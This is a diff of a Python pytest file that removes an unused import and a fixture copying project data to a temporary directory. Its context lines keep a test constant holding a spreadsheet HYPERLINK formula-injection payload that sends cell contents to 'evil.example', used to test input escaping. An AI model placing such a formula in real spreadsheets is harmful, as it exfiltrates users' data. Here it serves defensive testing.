@@ -22,7 +22,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from shared_future import classroom, data, escaping, hub_links, progress, validate
+from shared_future import classroom, escaping, hub_links, progress, validate
 
 REAL_DATA = Path(__file__).resolve().parents[1] / "data"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -472,14 +472,6 @@ VALIDATOR_CASES = [
     ),
     ("hostile translation is accepted (and escaped)", po_translate("quizzes/origins.po", "title", HOSTILE_ZH), None),
 ]
-
-
-@pytest.fixture
-def data_copy(tmp_path, monkeypatch):
-    copy = tmp_path / "data"
-    shutil.copytree(REAL_DATA, copy)
-    monkeypatch.setenv(data.DATA_ENV_VAR, str(copy))
-    return copy
 
 
 @pytest.mark.parametrize("change, expected", [pytest.param(c, e, id=i) for i, c, e in VALIDATOR_CASES])
